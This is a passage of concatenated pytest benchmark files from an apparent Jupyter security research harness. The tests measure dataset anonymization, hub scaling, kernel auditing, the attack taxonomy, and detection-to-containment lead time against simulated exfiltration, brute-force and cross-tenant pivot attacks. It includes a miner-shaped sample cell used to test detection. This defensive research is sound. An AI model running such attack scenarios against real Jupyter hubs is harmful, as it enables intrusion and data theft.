    times = [t for _, t in detected]
    assert times == sorted(times), "detection delay should grow as rate falls"
    report("EXP-EVADE", "\ncusum detection delay: " +
           ", ".join(f"{r}B/s->{t:.0f}s" for r, t in detected))


def test_rule_inference_probe_cost(benchmark):
    def infer():
        sc = build_scenario(seed=91)
        return RuleInferenceAttack().run(sc)

    result = benchmark.pedantic(infer, rounds=1, iterations=1)
    assert result.success
    report("EXP-EVADE", f"\nrule inference: threshold {result.metrics['true_threshold']}B "
                        f"recovered as {result.metrics['inferred_threshold']}B "
                        f"({result.metrics['relative_error']:.1%} error) "
                        f"in {result.metrics['probes']} probes")
    assert result.metrics["probes"] <= 20  # binary search, not brute force
