"""EXP-DATA — the open dataset and its privacy/utility trade-off (§IV.B).

Builds the labeled corpus, applies increasing anonymization levels, and
measures: anonymization throughput, k-anonymity / re-identification
risk, and detector utility (source-level TPR/FPR) on the released data.
Expected shape: utility survives pseudonymization (labels and notices
are structural), while raw identifying fields (code bodies, true IPs)
disappear; risk metrics improve or hold with stronger policies.
"""

import pytest
from _bench_utils import report

from repro.attacks import ExfiltrationAttack, TokenBruteforceAttack
from repro.dataset import (
    AnonymizationPolicy,
    Anonymizer,
    DatasetBuilder,
    k_anonymity,
)
from repro.dataset.anonymize import reidentification_risk
from repro.eval import DetectionEvaluator
from repro.taxonomy.render import render_table


def build_corpus():
    builder = DatasetBuilder(seed=2024, benign_sessions=2, benign_cells_per_session=4)
    return builder.build([TokenBruteforceAttack(delay=0.3), ExfiltrationAttack()])


CORPUS = build_corpus()


def test_corpus_generation(benchmark):
    records = benchmark.pedantic(build_corpus, rounds=1, iterations=1)
    summary = DatasetBuilder.summary(records)
    report("EXP-DATA", f"corpus: {summary}")
    assert summary["malicious"] > 0 and summary["benign"] > 0
    assert summary["families"].get("jupyter", 0) > 0


@pytest.mark.parametrize("policy_name", ["none", "default", "maximal"])
def test_anonymization_throughput(benchmark, policy_name):
    policy = {
        "none": AnonymizationPolicy.none(),
        "default": AnonymizationPolicy(),
        "maximal": AnonymizationPolicy.maximal(),
    }[policy_name]

    def run():
        return Anonymizer(policy).anonymize(CORPUS)

    records = benchmark(run)
    assert len(records) == len(CORPUS)
    stats = benchmark.stats.stats
    report("EXP-DATA", f"anonymize[{policy_name:7s}]: "
                       f"{len(CORPUS) / stats.mean:10,.0f} records/s")


def test_privacy_utility_tradeoff(benchmark):
    def table():
        rows = []
        evaluator = DetectionEvaluator()
        for name, policy in [("raw", AnonymizationPolicy.none()),
                             ("default", AnonymizationPolicy()),
                             ("maximal", AnonymizationPolicy.maximal())]:
            records = Anonymizer(policy).anonymize(CORPUS)
            cm = evaluator.evaluate_sources(records)
            code_kept = any("code" in r.fields for r in records if r.family == "jupyter")
            real_ips = any(r.src.startswith("10.0.0.") for r in records)
            rows.append((name, k_anonymity(records),
                         f"{reidentification_risk(records):.3f}",
                         f"{cm.tpr:.2f}", f"{cm.fpr:.2f}",
                         str(code_kept), str(real_ips)))
        return rows

    rows = benchmark.pedantic(table, rounds=1, iterations=1)
    report("EXP-DATA", "\n=== privacy vs utility ===")
    report("EXP-DATA", render_table(
        rows, ["policy", "k-anon", "reid-risk", "TPR", "FPR", "code kept", "real IPs"]))
    by_name = {r[0]: r for r in rows}
    # Utility preserved: detector works identically on released data.
    assert by_name["default"][3] == by_name["raw"][3]
    assert by_name["default"][4] == by_name["raw"][4]
    # Privacy gained: identifying fields gone.
    assert by_name["raw"][5] == "True" and by_name["default"][5] == "False"
    assert by_name["raw"][6] == "True" and by_name["default"][6] == "False"


def test_release_roundtrip(benchmark):
    """The released JSONL must parse and preserve labels."""
    import json

    released = Anonymizer(AnonymizationPolicy()).anonymize(CORPUS)

    def roundtrip():
        text = DatasetBuilder.export_jsonl(released)
        return [json.loads(line) for line in text.splitlines()]

    parsed = benchmark(roundtrip)
    assert len(parsed) == len(CORPUS)
    assert sum(p["label_malicious"] for p in parsed) == sum(
        r.label_malicious for r in CORPUS)
    report("EXP-DATA", f"\nrelease roundtrip: {len(parsed)} records, labels intact")
