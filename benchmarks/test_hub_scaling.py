"""EXP-HUB — fleet-scale hub: routing throughput, isolation, campaign.

The hub subsystem exists so scenario traffic scales past one server:
hundreds of per-user backends behind one reverse proxy and one tap.
Three questions, answered with numbers:

1. **Routing throughput** — real (wall-clock) requests/second through
   the proxy as the fleet grows, N ∈ {10, 50, 200}.  The routing table
   is a dict, so per-request cost should stay roughly flat with N.
2. **Per-tenant isolation** — requests aimed at tenant *i* land on
   tenant *i*'s backend and no other; per-route counters agree with
   per-backend access logs.
3. **Fleet campaign** — on a 50-tenant hub with the shared-token
   misconfiguration, the cross-tenant pivot compromises most of the
   fleet, the monitor at the proxy tap flags the sweep, and the idle
   culler reclaims abandoned servers afterwards.
"""

import time

from _bench_utils import report

from repro.attacks import CrossTenantPivotAttack
from repro.hub import HubConfig, build_hub_scenario, insecure_hub_config
from repro.workload import ScientistWorkload

FLEET_SIZES = [10, 50, 200]
REQUESTS_PER_RUN = 120


def _drive_requests(scenario, n_requests: int) -> float:
    """Round-robin REST requests across all tenants; returns wall seconds."""
    names = scenario.tenant_names
    clients = [scenario.user_client(username=name) for name in names]
    t0 = time.perf_counter()
    for i in range(n_requests):
        resp = clients[i % len(clients)].request("GET", "/api/status")
        assert resp.status == 200
    return time.perf_counter() - t0


def test_routing_throughput_scales_with_fleet_size():
    report("EXP-HUB", "EXP-HUB: proxy routing throughput vs fleet size",
           meta={"preset": "hub", "seed": "900+n"})
    report("EXP-HUB", f"  {'tenants':>8} {'requests':>9} {'wall_s':>8} "
                      f"{'req/s':>9} {'routed':>7}")
    throughputs = {}
    for n in FLEET_SIZES:
        scenario = build_hub_scenario(
            n_tenants=n, seed=900 + n, seed_data=False,
            hub_config=HubConfig(api_token="bench-hub-token",
                                 max_servers=n + 8, culling_enabled=False))
        wall = _drive_requests(scenario, REQUESTS_PER_RUN)
        rps = REQUESTS_PER_RUN / wall if wall > 0 else float("inf")
        throughputs[n] = rps
        stats = scenario.proxy.stats
        assert stats.routed_total == REQUESTS_PER_RUN
        assert stats.upstream_errors == 0
        report("EXP-HUB", f"  {n:>8} {REQUESTS_PER_RUN:>9} {wall:>8.2f} "
                          f"{rps:>9.0f} {stats.routed_total:>7}")
    # Routing is table-lookup cheap: 20x more tenants must not collapse
    # throughput (allow generous slack for wall-clock noise).
    assert throughputs[200] > throughputs[10] / 10


def test_per_tenant_isolation_under_load():
    n = 24
    scenario = build_hub_scenario(n_tenants=n, seed=41, seed_data=False)
    per_tenant = 5
    for name in scenario.tenant_names:
        client = scenario.user_client(username=name)
        for _ in range(per_tenant):
            assert client.request("GET", "/api/status").status == 200
    mismatches = []
    for name in scenario.tenant_names:
        backend = scenario.spawner.active[name].server
        hits = [e for e in backend.access_log if e.path == "/api/status"]
        route = scenario.proxy.routes[name]
        if len(hits) != per_tenant or route.requests != per_tenant:
            mismatches.append((name, len(hits), route.requests))
    assert not mismatches, mismatches
    report("EXP-HUB", f"  isolation: {n} tenants x {per_tenant} requests, "
                      f"0 cross-tenant leaks")


def test_fleet_campaign_detected_and_culler_reclaims():
    n = 50
    scenario = build_hub_scenario(
        n_tenants=n, seed=777,
        hub_config=insecure_hub_config())
    # Benign foreground on two tenants, so the campaign hides in traffic.
    for name in scenario.tenant_names[:2]:
        ScientistWorkload(scenario, username=name).run_session(cells=3)

    result = CrossTenantPivotAttack().run(scenario)
    assert result.success
    assert result.metrics["tenants_pivoted"] >= int(0.8 * (n - 1))
    scenario.run(10.0)

    notices = {notice.name for notice in scenario.monitor.logs.notices}
    assert "CROSS_TENANT_SWEEP" in notices

    # The insecure hub never culls; flip culling on (the remediation) and
    # verify idle servers are reclaimed.
    assert scenario.culler.sweeps == 0
    scenario.culler.enable(idle_timeout=300.0, interval=60.0)
    scenario.run(2000.0)
    assert len(scenario.culler.culled) >= 1
    assert len(scenario.spawner.running()) < n

    report("EXP-HUB", "EXP-HUB: 50-tenant fleet campaign (shared-token hub)")
    report("EXP-HUB", f"  pivoted tenants : {result.metrics['tenants_pivoted']}/{n - 1}")
    report("EXP-HUB", f"  bytes browsed   : {result.metrics['bytes_browsed']}")
    report("EXP-HUB", f"  proxy-tap alarm : CROSS_TENANT_SWEEP "
                      f"(+{sorted(notices - {'CROSS_TENANT_SWEEP'})})")
    report("EXP-HUB", f"  culler reclaimed: {len(scenario.culler.culled)} idle servers")
