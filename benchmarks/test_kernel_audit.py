"""EXP-AUDIT — the embedded kernel tracer's cost and coverage (§IV.B).

The paper proposes "an embedded tracing tool ... in Jupyter kernel ...
to enable extensive logging of user commands", and its §IV.A worries
about the overhead of exactly such tooling.  Measured here: per-cell
execution cost with and without the auditor attached (the overhead), the
provenance graph build rate, and policy evaluation cost per cell.
Expected shape: auditing adds a bounded constant per cell — small
against real cell runtimes — supporting the paper's position that
kernel-side tracing is deployable.
"""

import pytest
from _bench_utils import report

from repro.audit import KernelAuditor, PolicyEngine, extract_features
from repro.kernel import KernelRuntime, KernelWorld
from repro.messaging import Session

BENIGN_CELL = (
    "import math\n"
    "values = [math.sqrt(x) for x in range(200)]\n"
    "total = sum(values)\n"
    "print(total)"
)

SUSPICIOUS_CELL = (
    "import hashlib\n"
    "for nonce in range(50):\n"
    "    h = hashlib.sha256(str(nonce)).hexdigest()\n"
)


def make_kernel(audited: bool):
    world = KernelWorld()
    world.fs.write("home/data.csv", b"a,b\n1,2\n" * 50)
    kernel = KernelRuntime(world, key=b"k")
    auditor = KernelAuditor(kernel) if audited else None
    return kernel, auditor, Session(b"k")


def test_cell_execution_unaudited(benchmark):
    kernel, _, client = make_kernel(audited=False)
    result = benchmark(lambda: kernel.handle(client.execute_request(BENIGN_CELL)))
    assert result[0].content["status"] == "ok"
    report("EXP-AUDIT", f"unaudited cell: {benchmark.stats.stats.mean * 1e3:8.3f} ms")


def test_cell_execution_audited(benchmark):
    kernel, auditor, client = make_kernel(audited=True)
    result = benchmark(lambda: kernel.handle(client.execute_request(BENIGN_CELL)))
    assert result[0].content["status"] == "ok"
    assert auditor.records
    report("EXP-AUDIT", f"audited cell  : {benchmark.stats.stats.mean * 1e3:8.3f} ms")


def test_audit_overhead_bounded(benchmark):
    """The headline number: audit overhead as a fraction of cell cost."""
    import time

    def mean_cost(audited: bool, n: int = 30) -> float:
        kernel, _, client = make_kernel(audited)
        t0 = time.perf_counter()
        for _ in range(n):
            kernel.handle(client.execute_request(BENIGN_CELL))
        return (time.perf_counter() - t0) / n

    base = mean_cost(False)
    audited = benchmark.pedantic(lambda: mean_cost(True), rounds=1, iterations=1)
    overhead = (audited - base) / base if base > 0 else 0.0
    report("EXP-AUDIT", f"overhead: base={base * 1e3:.3f}ms audited={audited * 1e3:.3f}ms "
                        f"-> {overhead:+.1%}")
    # Bounded: tracing must not multiply cell cost (paper's deployability bar).
    assert audited < base * 3.0


def test_feature_extraction_cost(benchmark):
    features = benchmark(extract_features, SUSPICIOUS_CELL)
    assert features.hash_calls_in_loop == 1
    report("EXP-AUDIT", f"feature extraction: {benchmark.stats.stats.mean * 1e6:8.1f} us/cell")


def test_policy_evaluation_cost(benchmark):
    engine = PolicyEngine()
    features = extract_features(SUSPICIOUS_CELL)
    verdicts = benchmark(engine.evaluate, features)
    assert any(v.policy == "miner-shape" for v in verdicts)
    report("EXP-AUDIT", f"policy evaluation : {benchmark.stats.stats.mean * 1e6:8.1f} us/cell")


def test_provenance_build_rate(benchmark):
    kernel, auditor, client = make_kernel(audited=True)

    def session():
        kernel.handle(client.execute_request("text = open('data.csv').read()"))
        kernel.handle(client.execute_request(
            "out = open('copy.csv', 'w')\nout.write(text)\nout.close()"))
        return auditor.provenance

    prov = benchmark.pedantic(session, rounds=1, iterations=1)
    counts = prov.node_counts()
    assert counts["file"] >= 2 and counts["execution"] >= 2
    report("EXP-AUDIT", f"provenance after 2-cell session: {counts}, "
                        f"{prov.edge_count()} edges")
