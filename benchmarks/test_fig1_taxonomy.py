"""FIG1 — regenerate Figure 1 (attack technique taxonomy) and Figure 3
(OSCRP threat model), cross-checked against live attack executions.

Paper artifact: Fig. 1 "Taxonomy of threat models following TrustedCI's
Open Science Cyber Risk Profile" and the technique tree of attacks in
the wild.  The *shape* check: every avenue named by the paper exists,
every leaf maps to an implemented attack module, and executing a sample
attack per avenue produces only concerns the taxonomy declares.
"""

import importlib

from _bench_utils import report

from repro.taxonomy import (
    ATTACK_TREE,
    JUPYTER_OSCRP,
    Avenue,
    render_oscrp_figure,
    render_tree,
)

PAPER_AVENUES = {
    "ransomware", "crypto-mining", "data-exfiltration",
    "account-takeover", "zero-day", "security-misconfiguration",
}

PAPER_CONSEQUENCES = {
    "irreproducible-results", "misguided-scientific-interpretation",
    "legal-actions", "funding-loss", "reduced-reputation",
}


def test_fig1_tree_regenerates(benchmark):
    tree_text = benchmark(render_tree, ATTACK_TREE, show_observables=True)
    report("FIG1", "=== Figure 1 (regenerated): Jupyter attack taxonomy ===")
    report("FIG1", tree_text)
    # Every paper avenue appears as a branch.
    for avenue in PAPER_AVENUES - {"security-misconfiguration"}:
        node_names = {n.name for n in ATTACK_TREE.walk()}
        assert any(avenue.replace("crypto-mining", "resource-abuse") in name
                   or avenue in name for name in node_names), avenue


def test_fig3_oscrp_regenerates(benchmark):
    figure = benchmark(render_oscrp_figure, JUPYTER_OSCRP)
    report("FIG1", "\n=== Figure 3 (regenerated): OSCRP threat model ===")
    report("FIG1", figure)
    assert {a.value for a in Avenue} == PAPER_AVENUES
    assert JUPYTER_OSCRP.validate() == []
    rendered_consequences = {c for row in JUPYTER_OSCRP.table_rows()
                             for c in row[2].split(", ") if c}
    assert rendered_consequences == PAPER_CONSEQUENCES


def test_every_leaf_technique_is_implemented(benchmark):
    def check():
        missing = []
        for leaf in ATTACK_TREE.leaves():
            if not leaf.implemented_by:
                missing.append(leaf.name)
                continue
            module_path, _, class_name = leaf.implemented_by.rpartition(".")
            module = importlib.import_module(module_path)
            if not hasattr(module, class_name):
                missing.append(leaf.name)
        return missing

    missing = benchmark(check)
    assert missing == [], f"taxonomy leaves without implementation: {missing}"
    report("FIG1", f"\nall {len(ATTACK_TREE.leaves())} leaf techniques map to "
                   "implemented attack classes")


def test_live_attacks_stay_within_declared_concerns(benchmark):
    """Cheap live cross-check: one fast attack per avenue family."""
    from repro.attacks import ExfiltrationAttack, StolenTokenAttack, ZeroDayAttack
    from repro.attacks.scenario import build_scenario

    def run_sample():
        observations = {}
        sc = build_scenario(seed=71)
        observations["data-exfiltration"] = ExfiltrationAttack().run(sc)
        observations["account-takeover"] = StolenTokenAttack().run(sc)
        observations["zero-day"] = ZeroDayAttack(exfil_bytes=1000).run(sc)
        return observations

    observations = benchmark.pedantic(run_sample, rounds=1, iterations=1)
    rows = []
    for avenue_name, result in observations.items():
        declared = JUPYTER_OSCRP.concerns_for(result.avenue)
        assert result.observed_concerns <= declared, (
            f"{avenue_name}: observed {result.observed_concerns} not declared {declared}")
        rows.append(f"  {avenue_name:22s} observed={sorted(c.value for c in result.observed_concerns)}")
    report("FIG1", "\nlive cross-check (observed concerns ⊆ declared concerns):")
    for row in rows:
        report("FIG1", row)
