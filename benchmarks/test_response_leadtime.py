"""EXP-SOC — the defended-hub arms race: detection→containment lead time.

The paper's monitoring tool ends at the Notice; the ROADMAP asks for the
operational other half — wire the burned-source intel feed back into
production monitors as an auto-blocking signature path and *measure the
lead time*.  This experiment prices the whole response loop:

1. **Arms race** (canned multi-wave campaigns, identical worlds except
   for the ResponsePolicy): an attacker who pivots or exfiltrates once
   and comes back for more.  Undefended, the return wave succeeds every
   time; defended, the first wave's incident triggers containment
   (source block + token rotation, or tenant quarantine) and the
   post-detection success rate drops to zero.
2. **Lead time**: detection (first high/critical notice) to the first
   executed containment action, per campaign; the poll-driven SOC should
   land within a few sim-seconds.
3. **Intel path**: on a defended *sharded honeypot* hub, a source that
   only ever touched a decoy tenant is blocked at every production
   shard before it sends a single request to a real tenant.
"""

import pytest
from _bench_utils import report

from repro.attacks.campaign import CampaignRunner
from repro.eval.metrics import containment_rates, median
from repro.hub.users import insecure_hub_config
from repro.server.gateway import WebSocketKernelClient
from repro.soc.replay import exfil_campaign, pivot_campaign
from repro.topology import WorldBuilder, defend, spec_preset

N_TENANTS = 6
BASE_SEED = 6100


def run_pair(campaign_factory, *, n=2):
    """The same campaigns against undefended vs defended twins."""
    outcomes = {}
    for label, preset in (("undefended", "hub"), ("defended", "defended-hub")):
        spec = spec_preset(preset, n_tenants=N_TENANTS,
                           hub_config=insecure_hub_config())
        runner = CampaignRunner(base_seed=BASE_SEED, spec=spec)
        outcomes[label] = runner.run([campaign_factory() for _ in range(n)])
    return outcomes


def summarize(label, outcomes):
    rates = containment_rates(outcomes)
    leads = [o.containment_leadtime for o in outcomes
             if o.containment_leadtime is not None]
    return (f"  {label:<11} detected={rates['detected']:.2f} "
            f"succeeded={rates['succeeded']:.2f} "
            f"contained={rates['contained']:.2f} "
            f"post-detection-success={rates['post_detection_succeeded']} "
            f"median-leadtime="
            f"{f'{median(leads):.1f}s' if leads else '-'}"), rates


def test_pivot_arms_race(benchmark):
    outcomes = benchmark.pedantic(lambda: run_pair(pivot_campaign),
                                  rounds=1, iterations=1)
    report("EXP-SOC", "EXP-SOC: detection -> containment arms race "
                      f"({N_TENANTS}-tenant insecure hub, canned campaigns)",
           meta={"preset": "defended-hub", "seed": BASE_SEED})
    report("EXP-SOC", "\n=== cross-tenant pivot (sweep, then a return wave) ===")
    lines = {}
    for label in ("undefended", "defended"):
        line, rates = summarize(label, outcomes[label])
        report("EXP-SOC", line)
        lines[label] = rates
    # Every campaign is detected on both sides (same detectors)...
    assert lines["undefended"]["detected"] == 1.0
    assert lines["defended"]["detected"] == 1.0
    # ...but only the defended hub pushes post-detection success down —
    # strictly, as the acceptance criterion demands.
    assert lines["undefended"]["post_detection_succeeded"] == 1.0
    assert lines["defended"]["post_detection_succeeded"] == 0.0
    assert lines["defended"]["contained"] == 1.0
    assert lines["undefended"]["contained"] == 0.0
    for o in outcomes["defended"]:
        assert o.containment_leadtime is not None
        assert 0 <= o.containment_leadtime < 120.0


def test_exfiltration_arms_race(benchmark):
    outcomes = benchmark.pedantic(lambda: run_pair(exfil_campaign),
                                  rounds=1, iterations=1)
    report("EXP-SOC", "\n=== exfiltration (bulk wave, then a return wave) ===")
    lines = {}
    for label in ("undefended", "defended"):
        line, rates = summarize(label, outcomes[label])
        report("EXP-SOC", line)
        lines[label] = rates
    assert lines["undefended"]["post_detection_succeeded"] == 1.0
    assert lines["defended"]["post_detection_succeeded"] == 0.0
    assert lines["defended"]["contained"] == 1.0
    # The quarantine denies the return wave outright.
    prevented = sum(o.stages_prevented for o in outcomes["defended"])
    assert prevented >= len(outcomes["defended"])
    leads = [o.containment_leadtime for o in outcomes["defended"]]
    med = median([l for l in leads if l is not None])
    report("EXP-SOC", f"  defended exfil median detection->containment "
                      f"lead time: {med:.1f}s over {len(leads)} campaigns")
    assert med is not None and med < 30.0


def test_geo_shards_containment_leadtime(benchmark):
    """The ROADMAP's geo matrix cells: does shard *distance* change
    containment lead time?  Same canned pivot campaigns against the
    defended sharded hub with campus links vs the geo latency map
    (shard0 local, shard1 continental, shard2 transoceanic); the only
    difference between rows is link latency."""

    def run():
        outcomes = {}
        for preset in ("defended-sharded-hub", "defended-sharded-hub-geo"):
            spec = spec_preset(preset, n_tenants=N_TENANTS,
                               hub_config=insecure_hub_config())
            runner = CampaignRunner(base_seed=BASE_SEED, spec=spec)
            outcomes[preset] = runner.run([pivot_campaign() for _ in range(2)])
        return outcomes

    outcomes = benchmark.pedantic(run, rounds=1, iterations=1)
    report("EXP-SOC", "\n=== geo matrix: shard distance vs containment "
                      "lead time (canned pivot) ===")
    leads = {}
    for preset, outs in outcomes.items():
        values = [o.containment_leadtime for o in outs]
        assert all(o.contained for o in outs), f"{preset}: not contained"
        assert all(v is not None for v in values)
        leads[preset] = median(values)
        line, _ = summarize(preset, outs)
        report("EXP-SOC", line)
    delta = leads["defended-sharded-hub-geo"] - leads["defended-sharded-hub"]
    report("EXP-SOC",
           f"  geo links shift the median detection->containment lead "
           f"time by {delta:+.2f}s (campus {leads['defended-sharded-hub']:.2f}s"
           f" -> geo {leads['defended-sharded-hub-geo']:.2f}s)")
    # Distance may stretch the attack's own timeline, but the poll-driven
    # SOC must stay in the same containment regime on both maps.
    assert abs(delta) < 30.0


def test_intel_feed_blocks_burned_source_on_production_shard(benchmark):
    """The ROADMAP item, end to end: a honeypot-only observation becomes
    a fleet-wide block with measurable lead time — the attacker never
    reaches a real tenant on any shard."""

    def run():
        spec = defend(spec_preset("sharded-honeypot-hub", n_tenants=6,
                                  seed=BASE_SEED))
        s = WorldBuilder().build(spec)
        decoy = s.decoy_tenant_names[0]
        decoy_shard = s.shard_for(decoy)
        probe = WebSocketKernelClient(
            s.attacker_host, decoy_shard.host, port=s.proxy.config.port,
            token="", username="sweep", path_prefix=f"/user/{decoy}")
        touch_status = probe.request("GET", "/api/contents/").status
        touch_ts = s.clock.now()
        s.run(10.0)  # harvest -> burned-source indicator -> fleet-wide block
        blocked_ts = next((a.ts for a in s.soc.containment_actions()
                           if a.rule == "intel-auto-block"), None)
        # The attacker now goes after a real tenant on a DIFFERENT shard.
        target = next(t for t in s.tenant_names
                      if s.shard_for(t).name != decoy_shard.name)
        prod_shard = s.shard_for(target)
        resp = WebSocketKernelClient(
            s.attacker_host, prod_shard.host, port=s.proxy.config.port,
            token=s.token, username="sweep",
            path_prefix=f"/user/{target}").request("GET", "/api/contents/")
        return (s, touch_status, touch_ts, blocked_ts, decoy_shard,
                prod_shard, resp)

    (s, touch_status, touch_ts, blocked_ts, decoy_shard, prod_shard,
     resp) = benchmark.pedantic(run, rounds=1, iterations=1)
    assert touch_status == 200          # the decoy played along
    assert blocked_ts is not None       # the burn became an action
    lead = blocked_ts - touch_ts
    assert resp.status == 403           # production shard refused service
    assert prod_shard.proxy.stats.blocked_total >= 1
    assert prod_shard.name != decoy_shard.name
    # Blocked on every front door, though only the decoy saw the source.
    for shard in s.shards:
        assert s.attacker_host.ip in shard.proxy.blocked_sources
    report("EXP-SOC", "\n=== honeypot intel -> fleet-wide auto-block "
                      "(defended sharded-honeypot hub) ===")
    report("EXP-SOC", f"  decoy {s.decoy_tenant_names[0]!r} touched on "
                      f"{decoy_shard.name} at t={touch_ts:.1f}s; source "
                      f"blocked fleet-wide {lead:.1f}s later")
    report("EXP-SOC", f"  production shard {prod_shard.name}: first real-"
                      f"tenant request -> {resp.status}, blocked_total="
                      f"{prod_shard.proxy.stats.blocked_total}")
    assert 0 <= lead <= 10.0
