"""FIG2 — Jupyter's communication flow (paper Fig. 2), regenerated live.

The paper's figure shows: external user → HTTPS/WebSocket → server →
ZeroMQ (shell/iopub/control/hb, HMAC-SHA256-signed) → kernel, in the
two-process REPL model.  This bench drives a real execute_request
through every hop on the simulated network, prints the observed message
sequence (the figure, as a trace), and measures protocol throughput.
"""

import pytest
from _bench_utils import report

from repro.messaging import Channel, Session
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network


def build_world():
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    tap = net.add_tap()
    cfg = ServerConfig(ip="0.0.0.0", token="tok")
    server = JupyterServer(cfg, net, server_host)
    ServerGateway(server)
    client = WebSocketKernelClient(client_host, server_host, token="tok")
    return net, server, client, tap


def test_fig2_message_sequence(benchmark):
    def roundtrip():
        net, server, client, tap = build_world()
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("40 + 2")
        return client, reply, tap

    client, reply, tap = benchmark.pedantic(roundtrip, rounds=1, iterations=1)
    assert reply is not None and reply.content["status"] == "ok"

    report("FIG2", "=== Figure 2 (regenerated): one execute_request, every hop ===")
    report("FIG2", "client --HTTP Upgrade--> server : 101 Switching Protocols")
    for msg in client.received:
        chan = msg.channel.value if msg.channel else "?"
        report("FIG2", f"  [{chan:6s}] {msg.msg_type}")
    # The canonical REPL bracket (paper §II).
    iopub_types = [m.msg_type for m in client.iopub]
    assert iopub_types[0] == "status"                       # busy
    assert "execute_input" in iopub_types
    assert "execute_result" in iopub_types
    assert iopub_types[-1] == "status"                      # idle
    # ZMTP leg is really on the wire between server and kernel.
    blob = b"".join(s.payload for s in tap.segments)
    assert b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f" in blob
    assert b"<IDS|MSG>" in blob
    report("FIG2", "server --ZMTP(shell/iopub/control/hb)--> kernel : verified on tap")


def test_fig2_signing_throughput(benchmark):
    """Protocol-layer cost: sign+serialize+verify round trip (HMAC-SHA256)."""
    sender = Session(b"bench-key")
    receiver = Session(b"bench-key", check_replay=False)
    msg = sender.execute_request("x = 1")

    def cycle():
        return receiver.unserialize(sender.serialize(msg))

    result = benchmark(cycle)
    assert result.msg_type == "execute_request"


def test_fig2_end_to_end_execute_rate(benchmark):
    """Full-stack execute rate: client WS -> server -> ZMTP -> kernel and back."""
    net, server, client, tap = build_world()
    client.start_kernel()
    client.connect_channels()

    def one_execute():
        reply = client.execute("1 + 1", wait=10.0)
        assert reply is not None
        return reply

    benchmark(one_execute)
    report("FIG2", f"\nend-to-end executes measured; tap saw "
                   f"{len(tap.segments)} segments / {tap.total_bytes()} bytes")
