"""Shared helpers for the benchmark/experiment harness.

``report(exp_id, text)`` prints the experiment's table (visible with
``pytest -s``) and also writes it to ``benchmarks/reports/<exp_id>.txt``
so EXPERIMENTS.md can reference stable artifacts even under pytest's
output capture.  The first write of a run stamps the file with run
metadata (git describe, python, platform, plus whatever the experiment
passes via ``meta=``) so every committed artifact says which tree and
parameters produced it; ``run_metadata()`` returns the same record for
the machine-readable ``BENCH_*.json`` reports.
"""

from __future__ import annotations

import os
import platform
import subprocess
from typing import Dict, Optional

_REPORT_DIR = os.path.join(os.path.dirname(__file__), "reports")
_opened: Dict[str, bool] = {}


def git_describe() -> str:
    """The tree that produced this artifact, or "unknown" outside git."""
    try:
        out = subprocess.run(
            ["git", "describe", "--always", "--dirty", "--tags"],
            capture_output=True, text=True, timeout=10,
            cwd=os.path.dirname(os.path.abspath(__file__)))
        return out.stdout.strip() or "unknown"
    except (OSError, subprocess.SubprocessError):
        return "unknown"


def run_metadata(**extra) -> Dict[str, object]:
    """Provenance record for report artifacts: git describe, python,
    platform, plus experiment parameters (seed, preset, ...)."""
    meta: Dict[str, object] = {
        "git": git_describe(),
        "python": platform.python_version(),
        "platform": platform.platform(),
    }
    meta.update(extra)
    return meta


def _stamp_line(meta: Optional[Dict[str, object]]) -> str:
    record = run_metadata(**(meta or {}))
    fields = " ".join(f"{k}={record[k]}" for k in sorted(record))
    return f"# run: {fields}"


def report(exp_id: str, text: str, *,
           meta: Optional[Dict[str, object]] = None) -> None:
    os.makedirs(_REPORT_DIR, exist_ok=True)
    path = os.path.join(_REPORT_DIR, f"{exp_id}.txt")
    first = not _opened.get(exp_id)
    mode = "a" if not first else "w"
    _opened[exp_id] = True
    with open(path, mode) as fh:
        if first:
            fh.write(_stamp_line(meta) + "\n")
        fh.write(text + "\n")
    print(text)
