"""Shared helpers for the benchmark/experiment harness.

``report(exp_id, text)`` prints the experiment's table (visible with
``pytest -s``) and also writes it to ``benchmarks/reports/<exp_id>.txt``
so EXPERIMENTS.md can reference stable artifacts even under pytest's
output capture.
"""

from __future__ import annotations

import os
from typing import Dict

_REPORT_DIR = os.path.join(os.path.dirname(__file__), "reports")
_opened: Dict[str, bool] = {}


def report(exp_id: str, text: str) -> None:
    os.makedirs(_REPORT_DIR, exist_ok=True)
    path = os.path.join(_REPORT_DIR, f"{exp_id}.txt")
    mode = "a" if _opened.get(exp_id) else "w"
    _opened[exp_id] = True
    with open(path, mode) as fh:
        fh.write(text + "\n")
    print(text)
