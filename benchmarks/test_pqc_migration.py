"""EXP-PQC — post-quantum signing migration (paper §IV.B).

Prices the crypto-agility pathway: HMAC-SHA256 (Jupyter's default) vs
hash-based PQ schemes (Lamport, WOTS, Merkle) on real wire-format
messages — signature size, sign/verify time — plus the harvest-now-
decrypt-later exposure sweep.  Expected shape: PQ signatures are 1-3
orders of magnitude larger and slower but drop HNDL exposure to zero
for post-migration traffic.
"""

import pytest
from _bench_utils import report

from repro.crypto import HNDLModel, TrafficRecord, get_signer
from repro.messaging import Session

SCHEMES = ["hmac-sha256", "hmac-sha3-256", "lamport", "wots", "merkle"]
KEY = b"\x42" * 32


def make_message_segments():
    session = Session(b"")
    return session.execute_request("import numpy as np\nresult = np.mean(data)").json_segments()


SEGMENTS = make_message_segments()


@pytest.mark.parametrize("scheme", SCHEMES)
def test_sign_cost(benchmark, scheme):
    if scheme == "merkle":
        # Merkle consumes a leaf per signature (capacity 2^h); give each
        # measurement round a fresh signer via pedantic setup so the
        # tree build is excluded from the timed region.
        def setup():
            return (get_signer(scheme, KEY),), {}

        sig = benchmark.pedantic(lambda s: s.sign(SEGMENTS), setup=setup,
                                 rounds=20, iterations=1)
        verifier = get_signer(scheme, KEY)
    else:
        # One-time schemes may re-sign the *same* message, so a shared
        # signer is safe for repeated measurement.
        signer = get_signer(scheme, KEY)
        sig = benchmark(signer.sign, SEGMENTS)
        verifier = signer
    assert verifier.verify(SEGMENTS, sig)
    stats = benchmark.stats.stats
    report("EXP-PQC", f"sign   {scheme:>13s}: {stats.mean * 1e6:10.1f} us, "
                      f"signature {len(sig):6d} bytes")


@pytest.mark.parametrize("scheme", SCHEMES)
def test_verify_cost(benchmark, scheme):
    signer = get_signer(scheme, KEY)
    sig = signer.sign(SEGMENTS)
    ok = benchmark(signer.verify, SEGMENTS, sig)
    assert ok
    stats = benchmark.stats.stats
